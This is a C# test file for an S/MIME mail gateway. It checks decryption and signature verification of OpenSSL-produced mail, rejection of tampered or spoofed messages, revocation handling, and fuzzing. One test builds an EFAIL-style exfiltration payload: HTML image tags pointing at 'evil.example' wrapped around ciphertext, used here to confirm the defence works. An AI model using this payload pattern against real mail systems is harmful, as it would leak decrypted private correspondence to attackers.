using System.Security.Cryptography;
using System.Text;
using GatewaySecure.MailProtection.Recipients;

namespace GatewaySecure.MailProtection.Tests;

/// <summary>Mail made by OpenSSL, changed mail, and mail that lies.</summary>
public sealed class OpeningTests : IDisposable
{
    private const string Entity = "Content-Type: text/plain\r\n\r\nHello, this is the text.\r\n";
    private static readonly Pki Pki = Pki.Shared;
    private static readonly Leaf Bob = Pki.Rsa("bob@partner.example");
    private static readonly Leaf BobEc = Pki.Ec("bob@partner.example", ECCurve.NamedCurves.nistP256);
    private static readonly Leaf Alice = Pki.Rsa("alice@example.org");
    private readonly OpensslMail _openssl = new();

    public void Dispose() => _openssl.Dispose();

    [Theory]
    [InlineData("rsa", "-aes256")]
    [InlineData("rsa", "-aes128 -stream")]
    [InlineData("rsa", "-aes192 -keyid")]
    [InlineData("rsa", "-aes-256-gcm -stream")]
    [InlineData("rsa", "-aes-128-gcm")]
    [InlineData("rsa", "-aes256 -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256")]
    [InlineData("rsa", "-aes256 -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha1")]
    [InlineData("rsa", "-des3")]
    [InlineData("ec", "-aes256")]
    [InlineData("ec", "-aes128 -stream -keyopt ecdh_kdf_md:sha1 -aes128-wrap")]
    [InlineData("ec", "-aes-256-gcm -keyopt ecdh_kdf_md:sha256 -aes256-wrap -keyid")]
    [InlineData("ec", "-aes256 -keyopt ecdh_kdf_md:sha512 -aes192-wrap")]
    public async Task What_openssl_encrypts_opens(string kind, string options)
    {
        var leaf = kind == "rsa" ? Bob : BobEc;
        var mail = await EncryptAsync(Encoding.ASCII.GetBytes(Entity), leaf, options);
        var (outcome, output) = await Sealed.OpenAsync(mail, Keys(leaf));
        var opened = Assert.IsType<OpenOutcome.Opened>(outcome).Mail;
        Assert.True(opened.WasEncrypted);
        Assert.Equal(VerdictLevel.Warning, opened.Worst);
        Assert.EndsWith(Entity, Encoding.ASCII.GetString(output));
    }

    [Fact]
    public async Task Other_algorithms_are_refused_by_name()
    {
        var mail = await EncryptAsync(Encoding.ASCII.GetBytes(Entity), Bob, "-camellia256");
        var refused = await RefusedAsync(mail, Keys(Bob), OpenFailure.Unsupported);
        Assert.Contains("1.2.392.200011.61.1.1.1.4", refused.Reason);
    }

    [Theory]
    [InlineData("-nodetach", VerdictLevel.Good)]
    [InlineData("", VerdictLevel.Good)]
    [InlineData("-nodetach -stream", VerdictLevel.Good)]
    [InlineData("-keyopt rsa_padding_mode:pss -keyopt rsa_pss_saltlen:digest", VerdictLevel.Good)]
    [InlineData("-keyopt rsa_padding_mode:pss -keyopt rsa_pss_saltlen:0", VerdictLevel.Good)]
    [InlineData("-keyopt rsa_padding_mode:pss -keyopt rsa_pss_saltlen:20 -md sha512", VerdictLevel.Good)]
    [InlineData("-keyopt rsa_padding_mode:pss -keyopt rsa_pss_saltlen:max -md sha384", VerdictLevel.Good)]
    [InlineData("-md sha512 -keyid", VerdictLevel.Good)]
    [InlineData("-md sha1", VerdictLevel.Warning)]
    [InlineData("-noattr", VerdictLevel.Good)]
    public async Task What_openssl_signs_is_verified(string options, VerdictLevel worst)
    {
        var mail = await SignAsync(Alice, options);
        var (outcome, output) = await Sealed.OpenAsync(mail, Keys(Bob), Pki.Now);
        var opened = Assert.IsType<OpenOutcome.Opened>(outcome).Mail;
        Assert.Equal(worst, opened.Worst);
        Assert.Contains(opened.Verdicts, v => v.Text.StartsWith("Signed by alice@example.org", StringComparison.Ordinal));
        Assert.Contains("Hello, this is the text.", Encoding.ASCII.GetString(output));
    }

    [Fact]
    public async Task Signed_mail_stored_with_line_feeds_still_verifies()
    {
        var mail = Encoding.ASCII.GetString(await SignAsync(Alice, "")).Replace("\r\n", "\n", StringComparison.Ordinal);
        var opened = Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(Encoding.ASCII.GetBytes(mail), Keys(Bob))).Outcome);
        Assert.True(opened.Mail.SignatureTrusted);
    }

    [Theory]
    [InlineData("")]
    [InlineData("-nodetach -nosmimecap")]
    public async Task Changed_after_signing_is_not_written(string options)
    {
        var text = Encoding.ASCII.GetString(await SignAsync(Alice, options));
        // Opaque: the text stands in base64.
        var changed = options.Length == 0
            ? text.Replace("this is the text", "this is the test", StringComparison.Ordinal)
            : ChangeInBase64(text, "this is the text"u8, "this is the test"u8);
        Assert.NotEqual(text, changed);
        await RefusedAsync(Encoding.ASCII.GetBytes(changed), Keys(Bob), OpenFailure.Damaged);
    }

    [Fact]
    public async Task Signer_who_is_not_the_sender_is_bad()
    {
        var mail = Encoding.ASCII.GetString(await SignAsync(Alice, "")).Replace("From: alice@", "From: boss@", StringComparison.Ordinal);
        var opened = await BadAsync(mail);
        Assert.Contains(opened.Verdicts, v => v.Text.Contains("but the mail says it is from boss@example.org", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Two_senders_are_no_sender()
    {
        var mail = Encoding.ASCII.GetString(await SignAsync(Alice, ""));
        await BadAsync("From: boss@example.org\r\n" + mail);
    }

    [Fact]
    public async Task Organisation_signature_is_told_apart_from_a_persons()
    {
        var gateway = Pki.Rsa("domain-signing-authority@example.org");
        var opened = Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(await SignAsync(gateway, ""), Keys(Bob))).Outcome).Mail;
        Assert.True(opened.SignatureTrusted);
        Assert.Contains(opened.Verdicts, v => v.Text.Contains("not by the person", StringComparison.Ordinal));
        var other = Pki.Rsa("domain-signing-authority@other.example");
        await BadAsync(Encoding.ASCII.GetString(await SignAsync(other, "")));
    }

    [Fact]
    public async Task Signature_under_an_unknown_authority_is_bad()
    {
        var mail = await SignAsync(Alice, "");
        var opened = Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(mail, new OpeningKeys())).Outcome).Mail;
        Assert.Equal(VerdictLevel.Bad, opened.Worst);
        Assert.False(opened.SignatureTrusted);
        Assert.Null(opened.Sender);
    }

    [Fact]
    public async Task Certificate_that_expired_since_is_no_fault_and_a_revoked_one_is()
    {
        var mail = await SignAsync(Alice, "");
        var late = DateTimeOffset.UtcNow.AddYears(3);
        var keys = new OpeningKeys { Trust = CertificateDirectory.Create([], [Pki.Root], [Pki.Intermediate]) };
        Assert.True(Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(mail, keys, late)).Outcome).Mail.SignatureTrusted);
        keys = new OpeningKeys
        {
            Trust = CertificateDirectory.Create([], [Pki.Root], [Pki.Intermediate], [Pki.Crl([Alice.Certificate])]),
        };
        var opened = Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(mail, keys, late)).Outcome).Mail;
        Assert.Contains(opened.Verdicts, v => v.Level == VerdictLevel.Bad && v.Text.Contains("revoked", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("-aes-256-gcm")]
    [InlineData("-aes256")]
    public async Task Every_kind_of_damage_gets_the_one_answer_and_nothing_is_written(string options)
    {
        var text = Encoding.ASCII.GetString(await EncryptAsync(Encoding.ASCII.GetBytes(Entity), Bob, options));
        var bodyAt = text.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        var cms = Convert.FromBase64String(text[bodyAt..]);
        var answers = new HashSet<string>();
        // From the encrypted key to the end; before it stand names and algorithms.
        for (var i = cms.Length - 330; i < cms.Length; i += 3)
        {
            var changed = (byte[])cms.Clone();
            changed[i] ^= 0x40;
            var mail = text[..bodyAt] + Convert.ToBase64String(changed, Base64FormattingOptions.InsertLineBreaks);
            var (outcome, output) = await Sealed.OpenAsync(Encoding.ASCII.GetBytes(mail), Keys(Bob));
            if (outcome is OpenOutcome.Refused refused)
            {
                Assert.Empty(output);
                if (refused.Failure == OpenFailure.Damaged)
                    answers.Add(refused.Reason);
            }
            else
            {
                // CBC does not show changes: never without the warning that says so.
                Assert.True(options == "-aes256", $"The octet at {i} of {cms.Length} may be changed unseen.");
                Assert.Contains(((OpenOutcome.Opened)outcome).Mail.Verdicts, v => v.Text.Contains("does not show changes", StringComparison.Ordinal));
            }
        }
        Assert.Single(answers);
    }

    [Fact]
    public async Task Mail_to_somebody_else_says_so()
    {
        var mail = await EncryptAsync(Encoding.ASCII.GetBytes(Entity), Bob, "-aes256");
        await RefusedAsync(mail, Keys(BobEc), OpenFailure.NoKey);
        await RefusedAsync(mail, new OpeningKeys(), OpenFailure.NoKey);
        await RefusedAsync(Encoding.ASCII.GetBytes("From: a@b.example\r\n\r\nplain\r\n"), Keys(Bob), OpenFailure.NotProtected);
    }

    [Fact]
    public async Task Every_key_at_hand_is_tried()
    {
        var older = Pki.Rsa("bob@partner.example");
        var mail = await EncryptAsync(Encoding.ASCII.GetBytes(Entity), older, "-aes256");
        var keys = new OpeningKeys { SmimeKeys = [Bob.ForOpening, BobEc.ForOpening, older.ForOpening] };
        Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(mail, keys)).Outcome);
    }

    [Fact]
    public async Task Text_around_encrypted_content_is_left_out()
    {
        // EFAIL, direct exfiltration: an attacker's HTML around the ciphertext.
        var inner = Encoding.ASCII.GetString(await EncryptAsync(Encoding.ASCII.GetBytes(Entity), Bob, "-aes-256-gcm"));
        var part = inner[inner.IndexOf("MIME-Version", StringComparison.Ordinal)..];
        var mail = "From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
            + "--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
            + $"\r\n--b\r\n{part}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";
        var (outcome, output) = await Sealed.OpenAsync(Encoding.ASCII.GetBytes(mail), Keys(Bob));
        Assert.Contains(Assert.IsType<OpenOutcome.Opened>(outcome).Mail.Verdicts, v => v.Text.Contains("left out", StringComparison.Ordinal));
        Assert.DoesNotContain("evil", Encoding.ASCII.GetString(output));
    }

    [Fact]
    public async Task Sender_named_inside_without_header_protection_is_not_taken_over()
    {
        var mail = await EncryptAsync("From: boss@example.org\r\nSubject: x\r\nContent-Type: text/plain\r\n\r\nPay.\r\n"u8.ToArray(), Bob, "-aes256");
        var (_, output) = await Sealed.OpenAsync(mail, Keys(Bob));
        var text = Encoding.ASCII.GetString(output);
        Assert.DoesNotContain("boss@", text);
        Assert.EndsWith("\r\n\r\nPay.\r\n", text);
    }

    [Fact]
    public async Task Other_sender_under_unsigned_header_protection_is_bad()
    {
        var mail = await EncryptAsync("From: boss@example.org\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nPay.\r\n"u8.ToArray(), Bob, "-aes256");
        var opened = await BadAsync(Encoding.ASCII.GetString(mail));
        Assert.Contains(opened.Verdicts, v => v.Text.Contains("another sender", StringComparison.Ordinal));
        Assert.Null(opened.Sender);
    }

    [Fact]
    public async Task Torn_and_random_objects_never_crash()
    {
        var text = Encoding.ASCII.GetString(await SignAsync(Alice, "-nodetach"));
        var bodyAt = text.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        var cms = Convert.FromBase64String(text[bodyAt..]);
        var random = new Random(7);
        for (var i = 0; i < 400; i++)
        {
            var changed = cms[..(i % 2 == 0 ? cms.Length : random.Next(cms.Length))];
            for (var n = 0; n < 3 && changed.Length > 0; n++)
                changed[random.Next(changed.Length)] = (byte)random.Next(256);
            var mail = Encoding.ASCII.GetBytes(text[..bodyAt] + Convert.ToBase64String(changed, Base64FormattingOptions.InsertLineBreaks));
            var (outcome, output) = await Sealed.OpenAsync(mail, Keys(Bob));
            if (outcome is OpenOutcome.Refused)
                Assert.Empty(output);
        }
    }

    private static string ChangeInBase64(string mail, ReadOnlySpan<byte> from, ReadOnlySpan<byte> to)
    {
        var bodyAt = mail.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        var octets = Convert.FromBase64String(mail[bodyAt..]);
        to.CopyTo(octets.AsSpan(octets.AsSpan().IndexOf(from)));
        return mail[..bodyAt] + Convert.ToBase64String(octets, Base64FormattingOptions.InsertLineBreaks) + "\r\n";
    }

    private static OpeningKeys Keys(Leaf leaf) => new()
    {
        SmimeKeys = [leaf.ForOpening],
        Trust = CertificateDirectory.Create([], [Pki.Root], [Pki.Intermediate]),
    };

    private static async Task<OpenOutcome.Refused> RefusedAsync(byte[] mail, OpeningKeys keys, OpenFailure failure)
    {
        var (outcome, output) = await Sealed.OpenAsync(mail, keys);
        var refused = Assert.IsType<OpenOutcome.Refused>(outcome);
        Assert.Equal(failure, refused.Failure);
        Assert.Empty(output);
        return refused;
    }

    private static async Task<OpenedMail> BadAsync(string mail)
    {
        var opened = Assert.IsType<OpenOutcome.Opened>((await Sealed.OpenAsync(Encoding.ASCII.GetBytes(mail), Keys(Bob))).Outcome).Mail;
        Assert.Equal(VerdictLevel.Bad, opened.Worst);
        Assert.False(opened.SignatureTrusted);
        return opened;
    }

    private Task<byte[]> EncryptAsync(byte[] entity, Leaf leaf, string options) => _openssl.EncryptAsync(entity, options, leaf);

    private Task<byte[]> SignAsync(Leaf leaf, string options) => _openssl.SignAsync(Encoding.ASCII.GetBytes(Entity), options, leaf);
}
